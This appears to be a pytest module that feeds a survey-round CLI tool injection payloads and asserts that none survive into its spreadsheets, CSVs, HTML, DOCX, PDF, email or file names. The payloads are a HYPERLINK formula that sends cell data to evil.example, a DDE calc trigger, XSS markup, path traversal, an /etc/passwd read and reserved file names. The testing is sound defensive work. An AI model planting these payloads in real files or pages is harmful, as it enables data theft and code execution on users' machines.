"""Texts that want to be formulas, markup, headers or paths, swept through everything we write."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from email import message_from_bytes
from email.policy import default
from html import unescape
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from pyarrow import parquet

from tests.cli.running import run

# Each has the word by which it is found again.
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"EVIL")'
MARKUP = "<img src=x onerror=alert('EVIL')><script>EVIL()</script>"
TEXTS = (
    FORMULA,
    "@SUM(EVIL)",
    "+EVIL|' /C calc'!A0",
    "-EVIL()",
    MARKUP,
    "</script></style>]]>&EVIL;{{ EVIL }}{% EVIL %}",
    "../../EVIL/..\\x",
    "\u202eLIVE EVIL\u202c",
    "#EVIL[*strong* @label $x$ #read(\"/etc/passwd\")",
)  # fmt: skip
NAMES = ('=EVIL("a/b\\c:d")', "<b>EVIL</b> CON", "NUL", "..")
PLACES = """code,name,level,parent,population
0500000000,"{0}",region,,6064426
0501700000,"{1}",province,0500000000,2063314
0501724000,"{2}",city,0501700000,210545
0501701000,"{3}",municipality,0501700000,62211
"""
_RESERVED = re.compile(r"(?:con|nul|aux|prn|com\d|lpt\d)(?:\.|$)", re.IGNORECASE)
_NUMBER = re.compile(r"-?\d[\d.,]*%?|-")


@pytest.fixture(scope="module")
def swept(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A round of places with such names that have answered with such texts; all is written."""
    home = tmp_path_factory.mktemp("harm")
    places, folder = home / "places.csv", home / "round"
    quoted = [name.replace('"', '""') for name in NAMES]
    places.write_text(PLACES.format(*quoted), encoding="utf-8")
    options = ("--programme", "bicol", "--period", "2026", "--places", places)
    assert run("new", folder, *options, "--deadline", "2099-01-31").code == 0
    told = home / "told"
    told.mkdir()
    here = ("--round", folder)
    assert run(*here, "generate", "--letters").code == 0
    assert run(*here, "simulate", "--share", "1", "--mistakes", "0.1").code == 0
    returns = sorted((folder / "inbox").rglob("*.xlsx"))
    for number, path in enumerate(returns):
        _spoil(path, number)
    returns[0].rename(returns[0].with_name("=EVIL <b>\u202e.xlsx"))
    shutil.copy(returns[1], folder / "inbox" / "+EVIL.xlsx")
    for name, arguments in {
        "validate.csv": ("validate", "--format", "csv"),
        "extract.csv": ("extract", *sorted((folder / "inbox").rglob("*.xlsx")), "--format", "csv"),
        "accept.txt": ("accept", "0501724000", "--note", FORMULA),
        "compile.txt": ("compile", "--data", "--profiles", "--long-table"),
        "public.txt": ("compile", "--audience", "public", "--only", "page"),
        "return.txt": ("return",),
        "remind.txt": ("remind",),
        "status.csv": ("status", "--format", "csv"),
        "status.txt": ("status", "--format", "xlsx"),
        "history.csv": ("history", "--format", "csv"),
        "pack.txt": ("pack",),
    }.items():
        done = run(*here, *arguments)
        assert done.code in {0, 1}, (name, done.err)
        (told / name).write_text(done.out, encoding="utf-8")
    shutil.rmtree(folder / "inbox")
    return home


def _spoil(path: Path, number: int) -> None:
    """Put a text into every cell for an answer in words."""
    found = run("extract", path).json("extract")[0]["answers"]
    book = load_workbook(path)
    for at, answer in enumerate(one for one in found if isinstance(one["value"], str)):
        tab, _, address = answer["cell"].partition("!")
        text = TEXTS[(at + number) % len(TEXTS)]
        cell = book[tab][address]
        cell.value = text
        cell.data_type = "s"
    book.save(path)


def files(home: Path, *endings: str) -> list[Path]:
    found = [path for path in sorted(home.rglob("*")) if path.suffix in endings]
    assert found, endings
    return found


def test_no_text_becomes_a_formula_or_a_link_in_a_workbook(swept: Path) -> None:
    seen = False
    for path in files(swept, ".xlsx"):
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                part = package.read(name).decode("utf-8", "replace")
                seen = seen or "EVIL" in part
                for formula in re.findall(r"<f[^>]*>([^<]*)</f>", part):
                    # A text in a formula stays one: its quotation marks stand twice.
                    bare = re.sub(r'"(?:[^"]|"")*"', "", unescape(formula))
                    assert "EVIL" not in bare, (path.name, name)
                if name.endswith(".rels"):
                    assert "evil.example" not in part
                    assert not re.search(r'TargetMode="External"', part), (path.name, name)
    assert seen


def test_no_text_is_run_by_a_spreadsheet_that_opens_a_csv(swept: Path) -> None:
    seen = False
    for path in files(swept, ".csv"):
        if path.name == "places.csv":
            continue
        text = path.read_text(encoding="utf-8-sig")
        for line in csv.reader(io.StringIO(text, newline="")):
            for cell in line:
                seen = seen or "EVIL" in cell
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert _NUMBER.fullmatch(cell), (path.name, cell)
    assert seen


def test_no_text_becomes_markup_in_a_page(swept: Path) -> None:
    for path in files(swept, ".html"):
        text = path.read_text(encoding="utf-8")
        assert "Content-Security-Policy" in text
        assert "<img src=x" not in text
        assert "<script>EVIL" not in text
        assert "<b>EVIL" not in text
        assert not re.search(r"""(?:href|src)=["']?[^"'>]*evil""", text, re.IGNORECASE)
        outside = re.sub(r"<script[^>]*>.*?</script>", "", text, flags=re.DOTALL)
        assert "onerror=alert('EVIL')>" not in outside


def test_no_text_becomes_a_field_or_a_link_in_a_document(swept: Path) -> None:
    for path in files(swept, ".docx"):
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                part = package.read(name).decode("utf-8", "replace")
                assert not re.search(r"<w:(?:instrText|fldSimple)[^>]*>?[^<]*EVIL", part)
                assert not (name.endswith(".rels") and "evil" in part.lower())
                assert "<script>" not in part
    for path in files(swept, ".pdf"):
        data = path.read_bytes()
        assert data.rstrip().endswith(b"%%EOF")
        assert not re.search(rb"/(?:JavaScript|Launch|EmbeddedFile)\b", data)
        assert b"evil.example" not in data


def test_texts_are_nothing_but_texts_in_data_for_other_programs(swept: Path) -> None:
    for path in files(swept, ".yml"):
        # Reads plain values alone, and fails on anything else.
        yaml.safe_load(path.read_text(encoding="utf-8"))
    for path in files(swept, ".json"):
        json.loads(path.read_text(encoding="utf-8"))
    words: set[str] = set()
    for path in files(swept, ".parquet"):
        table = parquet.read_table(path, partitioning=None)
        assert "EVIL" not in str(table.schema.metadata)
        for column in table.columns:
            words |= {value for value in column.to_pylist() if isinstance(value, str)}
    told = {word for word in words if "EVIL" in word}
    assert told
    assert told <= {*TEXTS, *NAMES}, "what somebody wrote was changed"
    tables = {path.parent.parent.name for path in files(swept, ".parquet")}
    assert {"bicol-2026-data-INTERNAL", "bicol-2026-long-table-INTERNAL"} <= tables


def test_each_profile_is_a_page_of_a_place_under_a_harmless_name(swept: Path) -> None:
    profiles = swept / "round" / "summary" / "bicol-2026-profiles-INTERNAL"
    pages = sorted(profiles.glob("*.pdf"))
    assert pages
    for path in (*pages, *profiles.rglob("*.eml"), *profiles.rglob("*.txt")):
        assert re.fullmatch(r"05[0-9]{8}-[\w-]*-?2026(-profile)?\.(pdf|eml|txt)", path.name)


def test_no_name_begins_a_header_of_a_letter(swept: Path) -> None:
    for path in files(swept, ".eml"):
        mail = message_from_bytes(path.read_bytes(), policy=default)
        assert not mail.defects
        known = {"subject", "to", "from", "mime-version", "content-type", "x-unsent", "date",
                 "message-id", "content-transfer-encoding", "content-language", "cc"}  # fmt: skip
        assert {key.lower() for key in mail} <= known
        for part in mail.iter_attachments():
            name = part.get_filename() or ""
            assert name == Path(name).name.replace("\\", "")


def test_every_file_has_a_name_that_every_system_takes(swept: Path) -> None:
    for path in sorted((swept / "round").rglob("*")):
        name = path.name
        assert name.isprintable()
        assert not set(name) & set('\\/:*?"<>|')
        assert not _RESERVED.match(name)
        assert not name.endswith((".", " "))
        assert len(name) < 120
    assert sorted(path.name for path in swept.iterdir()) == sorted(
        {"places.csv", "round", "told"}
        | {path.name for path in swept.glob("*.zip")}
        | {path.name for path in swept.glob("*.sha256")}
    )
